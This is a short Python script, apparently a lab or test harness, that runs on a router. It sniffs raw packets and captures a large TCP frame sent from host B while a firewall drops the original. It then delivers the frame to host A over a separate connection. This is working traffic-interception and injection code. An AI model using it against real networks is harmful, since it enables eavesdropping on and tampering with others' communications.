"""Run in the router: sniff one big frame from B's TCP port to A (nftables drops it and its
retransmissions meanwhile), deliver it to A on a connection of our own, hold that open.

argv: IFACE B_ADDR PORT A_ADDR
"""
import socket
import struct
import sys

iface, b_addr, port, a_addr = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
sniff.bind((iface, 0))
print("watching", flush=True)
while True:
    pkt, addr = sniff.recvfrom(65536)
    if addr[2] == socket.PACKET_OUTGOING or pkt[9] != 6 or socket.inet_ntoa(pkt[12:16]) != b_addr:
        continue
    ihl = (pkt[0] & 15) * 4
    sport, = struct.unpack_from("!H", pkt, ihl)
    payload = pkt[ihl + (pkt[ihl + 12] >> 4) * 4:struct.unpack_from("!H", pkt, 2)[0]]
    if sport == port and len(payload) > 1000 and struct.unpack_from("!H", payload)[0] == len(payload) - 2:
        break
attacker = socket.create_connection((a_addr, port), timeout=5)
attacker.sendall(payload)
print("delivered a held frame of", len(payload), "bytes", flush=True)
attacker.settimeout(None)
while attacker.recv(65536):
    pass
